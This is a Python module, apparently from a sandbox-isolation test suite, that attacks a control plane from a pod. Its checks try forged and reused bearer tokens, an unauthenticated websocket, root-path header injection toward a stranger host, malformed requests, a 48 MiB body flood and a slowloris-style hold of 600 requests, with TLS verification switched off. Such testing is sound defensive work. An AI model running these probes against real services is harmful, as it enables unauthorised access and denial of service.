"""The control plane by the one port of it that pods may connect to: what is asked there without being a courier."""

import base64
import contextlib
import http.client
import os
import select
import socket
import ssl
import time
from typing import Any
from urllib.parse import unquote, urlsplit

from isolation.attacks.base import Got, Refused
from isolation.attacks.network import SECONDS, connection

LOGIN = "/login/"
STRANGER = "stranger.invalid"  # nobody's (RFC 2606)
DOOR = "/agent/v1/events"
BODY_MIB = 48  # three times what a request of a courier may have, and more than what buffers on the way take
# More than one address may have (CONNECTIONS_PER_ADDRESS and the spare ones), by their defaults.
UNFINISHED, UNFINISHED_SECONDS = 600, 2.5
CLOSE = 8  # the opcode of a websocket's last frame (RFC 6455, section 5.2)


def bearer(kind: str) -> dict[str, str]:
    """The header for a kind of credential: `none`, `egress` (the run's own, for the proxy), or `forged`."""
    if kind == "none":
        return {}
    run = os.environ.get("BERTH_RUN", "")
    token = f"{run}.{'0' * 64}"
    if kind == "egress":
        proxy = urlsplit(os.environ.get("HTTPS_PROXY", ""))
        token = f"{run}.{unquote(proxy.password or '')}"
    return {"Authorization": f"Bearer {token}"}


def talk_to(url: str) -> socket.socket:
    """A connection to the control plane. Raises Refused if nobody answers."""
    parts = urlsplit(url)
    tls = parts.scheme == "https"
    talk = connection(parts.hostname or "", parts.port or (443 if tls else 80))
    if tls:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        talk = context.wrap_socket(talk, server_hostname=parts.hostname)
    talk.settimeout(SECONDS)
    return talk


def ask(
    url: str, path: str, method: str, headers: dict[str, str], body: bytes | None = None
) -> http.client.HTTPResponse:
    """Ask the control plane for a path; the answer, unread. Raises Refused if nobody answers."""
    parts = urlsplit(url)
    client = http.client.HTTPConnection(parts.hostname or "", parts.port)
    client.sock = talk_to(url)
    client.request(method, path, body=body, headers=headers)
    return client.getresponse()


def http_path(url: str, paths: list[str], method: str = "GET", credential: str = "none") -> Got:
    """Ask for paths. Got is what answers with anything but an error or the way to a login."""
    answers = []
    for path in paths:
        answer = ask(url, path, method, bearer(credential))
        if answer.status < 300 or (answer.status < 400 and LOGIN not in (answer.getheader("Location") or "")):
            return Got(f"{method} {path} answered {answer.status}")
        to_login = " (to the login)" if answer.status < 400 else ""
        answers.append(f"{path} {answer.status}{to_login}")
    raise Refused(", ".join(answers))


def websocket(url: str, path: str) -> Got:
    """Follow a session without being anybody. Got is any frame that does not close the socket."""
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": key}
    answer = ask(url, path, "GET", upgrade | {"Origin": url})
    if answer.status != 101:
        raise Refused(f"{path} answered {answer.status}")
    assert answer.fp
    frame = answer.fp.read(2)
    if not frame or frame[0] & 15 == CLOSE:
        raise Refused(f"{path} was closed at once")
    return Got(f"{path} sent a frame")


def root_path(url: str) -> Got:
    """Say where the control plane is mounted, as a proxy in front of it would. Got is an answer that believes it."""
    answer = ask(url, "/admin/", "GET", {"Daphne-Root-Path": f"//{STRANGER}"})
    if STRANGER in (answer.getheader("Location") or "") or STRANGER.encode() in answer.read(1 << 20):
        return Got(f"/admin/ answered {answer.status} and leads to {STRANGER}")
    raise Refused(f"/admin/ answered {answer.status}, and nothing of {STRANGER}")


def odd_requests(url: str, requests: list[tuple[str, str]]) -> Got:
    """Ask for what can't be, without a token. Got is an answer that says that the server went wrong."""
    statuses = []
    for method, path in requests:
        with contextlib.suppress(http.client.HTTPException), contextlib.closing(talk_to(url)) as talk:
            talk.sendall(
                f"{method} {path} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nContent-Length: 0\r\n\r\n".encode()
            )
            answer = http.client.HTTPResponse(talk)
            answer.begin()
            if answer.status >= 500:
                return Got(f"{method} {path[:60]} answered {answer.status}")
            statuses.append(str(answer.status))
    raise Refused(f"{len(requests)} requests, answered with {', '.join(sorted(set(statuses))) or 'nothing'}")


def large_body(url: str) -> Got:
    """Send a body without a token. Got is a server that takes all of it before it says no."""
    block, sent = b"x" * (1 << 18), 0
    head = f"POST {DOOR} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nContent-Length: {1 << 30}\r\n\r\n"
    with contextlib.closing(talk_to(url)) as talk:
        talk.sendall(head.encode())
        try:
            while sent < BODY_MIB << 20 and not select.select([talk], [], [], 0)[0]:
                sent += talk.send(block)
        except OSError as error:
            raise Refused(f"the server hung up after {sent >> 20} MiB ({error.strerror or 'too slow'})") from None
    if sent < BODY_MIB << 20:
        raise Refused(f"the server answered after {sent >> 20} MiB")
    return Got(f"the server took {sent >> 20} MiB from nobody")


def unfinished(url: str) -> Got:
    """Begin many requests and finish none. Got is a server that holds all of them, or has no room for another."""
    held: list[socket.socket] = []
    try:
        for _ in range(UNFINISHED):
            try:
                held.append(talk_to(url))
                held[-1].sendall(f"POST {DOOR} HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n".encode())
            except (OSError, Refused):
                raise Refused(f"no more than {len(held)} were taken") from None
        end = time.monotonic() + UNFINISHED_SECONDS
        poll = select.poll()
        for talk in held:
            poll.register(talk, select.POLLIN | select.POLLHUP)
        while (left := end - time.monotonic()) > 0:
            if ended := poll.poll(left * 1000):
                raise Refused(f"{len(ended)} or more of {len(held)} were ended")
    finally:
        for talk in held:
            talk.close()
    return Got(f"{len(held)} unfinished requests of one address are held")


ATTACKS: dict[str, Any] = {
    "http_path": http_path,
    "websocket": websocket,
    "root_path": root_path,
    "odd_requests": odd_requests,
    "large_body": large_body,
    "unfinished": unfinished,
}
